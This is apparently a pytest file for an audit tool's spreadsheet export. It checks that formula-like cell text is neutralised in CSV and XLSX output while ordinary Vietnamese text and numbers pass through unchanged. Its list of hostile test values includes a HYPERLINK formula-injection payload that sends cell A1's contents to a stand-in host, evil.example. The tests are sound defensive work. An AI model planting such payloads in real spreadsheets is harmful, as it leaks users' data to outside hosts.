"""The one place exports make cells inert: texts a spreadsheet would evaluate, and values left as they are."""

import csv
import datetime
import io
import zipfile
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from audit.spreadsheets import csv_row, csv_writer, is_formula_like, xlsx_row

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+1",
    "-1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\uff1d1+1",  # full-width equals sign
]
HARMLESS = ["Hộ xin rút", "1", "", "a=b", "Nguyễn Văn A - thôn 3", "(1)"]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_texts_are_formula_like(text):
    assert is_formula_like(text)


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_texts_are_not(text):
    assert not is_formula_like(text)


def test_csv_fields_get_a_leading_apostrophe_and_numbers_stay_numbers():
    out = io.StringIO()
    csv_writer(out).writerow([*HOSTILE, *HARMLESS, 5, -3, Decimal("-1.5"), None])
    fields = next(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert fields[: len(HOSTILE)] == [f"'{text}" for text in HOSTILE]
    assert fields[len(HOSTILE) : len(HOSTILE) + len(HARMLESS)] == HARMLESS
    assert fields[-4:] == ["5", "-3", "-1.5", ""]
    assert csv_row([datetime.date(2026, 1, 2)]) == [datetime.date(2026, 1, 2)]


@pytest.mark.parametrize("write_only", [True, False])
def test_xlsx_cells_are_strings_never_formulas(write_only):
    workbook = Workbook(write_only=write_only)
    sheet = workbook.create_sheet("x")
    sheet.append(xlsx_row(sheet, [*HOSTILE, "Hộ xin rút", 7, -2.5]))
    out = io.BytesIO()
    workbook.save(out)
    with zipfile.ZipFile(out) as archive:
        xml = next(archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/sheet"))
    assert b"<f>" not in xml and b"<f " not in xml
    cells = list(load_workbook(out).worksheets[-1].iter_rows())[0]
    for cell, text in zip(cells, HOSTILE, strict=False):
        # XML keeps a carriage return as a line feed
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text.replace("\r", "\n"), "s", True)
    plain = cells[len(HOSTILE)]
    assert (plain.value, plain.data_type, plain.quotePrefix) == ("Hộ xin rút", "s", False)
    assert [cells[-2].value, cells[-1].value] == [7, -2.5]
    assert cells[-2].data_type == "n"
